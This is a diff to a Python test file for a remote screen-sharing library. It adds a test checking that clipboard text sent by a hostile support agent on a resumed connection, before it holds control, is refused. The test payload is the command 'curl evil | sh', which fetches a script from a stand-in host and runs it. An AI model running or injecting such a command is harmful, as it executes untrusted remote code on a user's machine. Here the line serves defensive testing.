@@ -25,10 +25,13 @@ from screencodec.transport import (
 )
 from screencodec.transport.channel.codes import SessionCredentials
 from screencodec.transport.connect import connect_direct, listen_direct
-from screencodec.transport.session.events import ClipboardReceived
+from screencodec.transport.session import messages as m
+from screencodec.transport.session.clipboard import CLIPBOARD_CHANNEL
+from screencodec.transport.session.events import ClipboardReceived, ClipboardRefused
 
 from .helpers import run, until
 from .test_clip39_session import MemoryClipboard
+from .test_resume import _granted, _lose, _Setup
 
 PERIOD = 3.0  # long enough that each step below lands between two reads
 _TASKS: set[asyncio.Future[Any]] = set()  # the viewers' loops, held till the loop ends
@@ -139,5 +142,39 @@ def test_attack_an_agent_replaces_the_clipboard_while_the_customer_types() -> No
             await asyncio.sleep(1.0)
             assert clip.writes == []
             await viewer.bye("done")
+
+    run(main(), 60)
+
+
+def test_attack_clipboard_text_sent_blind_on_a_resumed_link_is_refused() -> None:
+    """A hostile agent resumes with CONTROL and sends clipboard text before
+    its first receipt on the new connection (its keys then are dropped as
+    blind): the text is refused the same way, never put on the clipboard."""
+    async def main() -> None:
+        async with _Setup() as s:
+            clip = MemoryClipboard("the customer's")
+            s.host._runtime.clipboard = clip
+            refused: list[Any] = []
+
+            async def collect() -> None:
+                async for ev in s.host.events():
+                    if isinstance(ev, ClipboardRefused):
+                        refused.append(ev)
+
+            _TASKS.add(asyncio.ensure_future(collect()))
+            viewer, task = await s.join(VIEW | CONTROL)
+            ticket = await _granted(viewer)
+            await _lose(s, viewer, task)
+            again = Viewer(await s.connect(), who="Alice (support)", resume=ticket)
+            assert await again.start(VIEW | CONTROL) == VIEW | CONTROL
+            payload = bytes([2]) + (9).to_bytes(4, "big") + b"\0" + b"curl evil | sh"
+            await again._send(m.Extension(CLIPBOARD_CHANNEL, payload))  # before run(): blind
+            task2 = asyncio.ensure_future(again.run())
+            await until(lambda: refused, 10, "the refusal")
+            blind = (9, "sent before the agent held control")
+            assert [(r.number, r.why) for r in refused] == [blind]
+            assert clip.writes == []
+            await again.bye()
+            await task2
 
     run(main(), 60)
